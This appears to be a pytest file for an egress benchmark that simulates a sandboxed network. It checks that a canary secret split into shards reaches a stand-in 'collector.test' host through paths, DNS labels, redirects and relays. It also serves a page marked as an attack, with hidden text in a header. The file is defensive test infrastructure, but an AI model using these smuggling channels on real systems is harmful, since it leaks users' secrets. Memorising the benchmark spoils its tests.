"""The world: real servers on this machine, a resolver that notes every name, and a log of all that arrived."""

import asyncio
import socket

import pytest
from hypothesis import given
from hypothesis import strategies as st
from testbed import requests

from posttrain.bench.egress.orders import order
from posttrain.bench.egress.pages import page
from posttrain.bench.egress.shapes import Plan, canary, fill, reassemble, shards, tagged
from posttrain.bench.egress.world import ALLOWED, COLLECTOR, REDIRECT, SITE, World, owner
from posttrain.guard.egress.facts import Request


def test_the_site_has_its_pages_and_headers_and_no_others(play):
    attack = page("Moss Garden", "x-description", "hidden")
    (found, missing), log = play.visit("http://site.test/p/1", "http://site.test/p/2", pages={"1": attack})
    assert found.response is not None
    assert found.response.text == attack.html
    assert found.response.header("x-description") == "Visit the Moss Garden. hidden"
    assert missing.response is not None
    assert missing.response.status == 404
    assert [(sent.at, sent.method) for sent in log] == [(SITE, "LOOKUP"), (SITE, "GET")] * 2


def test_every_delivery_brings_all_parts_to_the_collector(play):
    secret, plan = canary(3, 38), Plan("even", channel="path")
    on_the_way = {
        "direct": set(), "301": {REDIRECT}, "302": {REDIRECT}, "307": {REDIRECT}, "open-redirect": {ALLOWED},
        "relay": {ALLOWED},
    }  # fmt: skip
    runs = {f"r{number}": delivery for number, delivery in enumerate(on_the_way)}
    orders = {run: order(plan, delivery, run).url for run, delivery in runs.items()}
    _, log = play.visit(*(fill(url, part) for url in orders.values() for part in shards(secret, plan, 0)))
    for run, delivery in runs.items():
        seen = [sent for sent in log if f"/{run}/" in sent.target]
        assert reassemble([sent for sent in seen if sent.at == COLLECTOR], run, plan) == secret
        assert {sent.at for sent in seen} == {COLLECTOR, *on_the_way[delivery]}
        assert {sent.via for sent in seen if sent.at == COLLECTOR} == {ALLOWED if delivery == "relay" else ""}


def test_a_redirect_by_html_is_not_followed_by_the_gateway(play):
    (outcome,), log = play.visit("http://redirect.test/meta/http://collector.test/c?a=1&b=2")
    assert outcome.response is not None
    assert 'url=http://collector.test/c?a=1&amp;b=2"' in outcome.response.text
    assert not [sent for sent in log if sent.at == COLLECTOR]


def test_a_name_carries_its_label_to_the_resolver_and_the_server(play):
    _, log = play.visit("http://abc-1.1-4.r1.Collector.Test/c")
    assert [(sent.at, sent.method, sent.host) for sent in log] == [
        (COLLECTOR, "LOOKUP", "abc-1.1-4.r1.collector.test"),
        (COLLECTOR, "GET", "abc-1.1-4.r1.collector.test"),
    ]
    assert all(tagged(sent) == ("r1", 1, 4, "abc-1") for sent in log)


def test_headers_and_bodies_arrive_as_they_were_sent(play):
    request = Request("POST", "http://collector.test/c", (("X-Trace", "run=r1"),), b"i=1&d=\xc3\xa9")
    *_, sent = play.visit(request)[1]
    assert (sent.method, sent.target, sent.body) == ("POST", "/c", "i=1&d=é")
    assert ("x-trace", "run=r1") in sent.headers


@given(name=st.from_regex(r"[a-z]{1,8}(\.[a-z]{2,5}){1,2}", fullmatch=True))
def test_other_names_have_no_address_and_are_noted(name):
    if owner(name) is None:
        world = World()
        with pytest.raises(socket.gaierror):
            asyncio.run(world.resolver(name))
        assert [(sent.method, sent.host) for sent in world.log] == [("LOOKUP", name)]


@pytest.mark.parametrize(("address", "host"), [("93.184.216.34", COLLECTOR), ("127.0.0.1", "example.com")])
def test_no_connection_leaves_the_machine(address, host):
    with pytest.raises(ValueError, match="not part of this world"):
        asyncio.run(World().connect(address, 80, host))


@pytest.mark.parametrize(
    ("host", "expected"),
    [("site.test", SITE), ("a.b.collector.test", COLLECTOR), ("xcollector.test", None), ("collector.test.evil", None)],
)
def test_whose_name_it_is(host, expected):
    assert owner(host) == expected


def test_sizes_are_what_the_sender_chose():
    (sent,) = requests("secret12", Plan(channel="body"))
    assert sent.size == len(sent.host) + len("/c") + len(sent.body) + len(sent.host)
